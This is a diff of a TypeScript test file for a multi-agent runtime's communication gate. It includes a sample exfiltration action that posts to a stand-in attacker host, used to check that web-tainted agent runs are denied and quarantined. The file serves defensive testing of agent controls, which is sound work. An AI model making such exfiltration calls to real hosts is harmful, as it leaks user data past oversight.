@@ -72,8 +72,9 @@ describe("communication gate", () => {
       action: "post",
       parameters: { url: "https://attacker.example/drop" },
     };
-    // Control first (the denial below quarantines the executor): from a run of its own the call is allowed.
-    const own = await a.rt.startRun("executor");
+    // Control first (the denial below quarantines the executor): from an operator's clean run of
+    // its own the call is allowed (any other new run of the executor carries the web taint in).
+    const own = await a.rt.startCleanRun("executor", "operator");
     expect((await a.rt.gate.evaluate({ ...exfil, runId: own.runId })).decision).toBe("allow");
     const denied = await a.rt.gate.evaluate(exfil);
     expect(denied.decision).toBe("deny");
@@ -170,7 +171,7 @@ describe("communication gate", () => {
   });
 
   it("a full inbox refuses the next message (ERR_MESSAGE_INBOX_FULL)", async () => {
-    a = await twoAgents();
+    a = await twoAgents({ inbox: { maxPerSender: 256, maxPerSenderPerRecipient: 256 } });
     const run = await a.rt.startRun("planner");
     for (let i = 0; i < 256; i++) {
       const r = await a.rt.messages.gate.submit(
